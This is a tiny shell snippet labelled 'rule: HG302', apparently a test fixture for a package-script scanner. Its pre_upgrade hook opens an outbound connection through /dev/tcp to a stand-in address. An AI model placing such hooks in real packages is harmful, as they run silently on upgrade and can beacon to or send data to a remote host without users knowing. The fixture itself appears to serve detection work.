# rule: HG302
pre_upgrade() {
    echo x >> /dev/tcp/192.0.2.1/80
}
post_upgrade() {
    return 0
}
